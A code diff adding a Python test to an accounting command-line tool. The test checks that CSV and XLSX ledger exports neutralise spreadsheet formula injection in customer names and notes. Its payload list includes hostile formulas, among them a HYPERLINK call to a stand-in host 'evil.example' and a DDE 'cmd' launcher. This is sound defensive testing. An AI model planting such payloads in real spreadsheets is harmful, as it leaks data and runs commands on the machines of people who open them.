@@ -262,3 +262,59 @@ def test_a_readable_config_file_with_a_password_is_refused(ar, tmp_path, monkeyp
     assert "unknown key(s) colour" in ar("balance").err
     conf.write_text("db = [\n")
     assert "not valid TOML" in ar("balance").err
+
+
+def test_hostile_names_export_safely_and_round_trip(ok, tmp_path, db):
+    """1,000 customers whose names begin with = + - @ (or an apostrophe before one), tab or CR; deliveries whose
+    notes do too. No exported cell is one a spreadsheet would run, and both exports re-import to the same names."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from arcli.domain.importing import FORMULA_STARTS, formula_safe
+
+    starts = ["=", "+", "-", "@", "\t=", "\r+", "'=", "''@", "\t", "\r"]
+    payloads = ['HYPERLINK("http://evil.example/?{n}","x")', "1+{n}", "cmd|' /C calc'!A{n}", "SUM(A1:A{n})"]
+    raw = [starts[n % len(starts)] + payloads[n % len(payloads)].format(n=n) for n in range(1000)]
+    src = tmp_path / "hostile.csv"
+    with src.open("w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f)
+        w.writerow(["name", "terms", "note"])
+        w.writerows([name, "cod", name] for name in raw)
+    ok("import", "customers", src)
+    names = {c["name"] for c in ok("customer", "list", "-f", "json").json()}
+    # as stored: surrounding whitespace trimmed (so no name starts with a tab or CR), one apostrophe taken
+    # off before a formula character (the CSV convention), everything else kept
+    assert names == {n.strip().removeprefix("'") if n.strip().lstrip("'")[:1] in "=+-@" else n.strip() for n in raw}
+    assert sum(n[:1] in "=+-@" for n in names) >= 700
+    dl = tmp_path / "dl.csv"
+    with dl.open("w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f)
+        w.writerow(["ref", "customer", "date", "amount", "note"])
+        safe = formula_safe  # the CSV convention: '=… is read as =…, so a name that starts with ' is written ''…
+        w.writerows([f"D{n}", safe(name), "2026-11-01", "10", safe(name)] for n, name in enumerate(sorted(names)[:200]))
+    ok("import", "deliveries", dl)
+
+    def unsafe(cell: str) -> bool:
+        return cell[:1] in FORMULA_STARTS
+
+    ok("export", "ledger", tmp_path / "csv")
+    for path in (tmp_path / "csv").glob("*.csv"):
+        with path.open(newline="", encoding="utf-8-sig") as f:
+            bad = [cell for row in csv.reader(f) for cell in row if unsafe(cell)]
+        assert bad == [], f"{path.name}: {bad[:3]}"
+    ok("export", "ledger", tmp_path / "xlsx", "--format", "xlsx")
+    for path in (tmp_path / "xlsx").glob("*.xlsx"):
+        for row in load_workbook(path).active.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
+                if isinstance(cell.value, str) and unsafe(cell.value):
+                    assert cell.data_type == "s" and cell.quotePrefix, f"{path.name} {cell.coordinate}"
+    for fmt in ("csv", "xlsx"):
+        again = tmp_path / f"again-{fmt}.db"
+        for kind in ("customers", "deliveries"):
+            ok("--db", again, "import", kind, tmp_path / fmt / f"{kind}.{fmt}")
+        got = ok("--db", again, "customer", "list", "-f", "json").json()
+        assert {c["name"] for c in got} == names
+        notes = {r[0] for r in rows(again, "select note from entry")}
+        assert notes == {r[0] for r in rows(db, "select note from entry")}
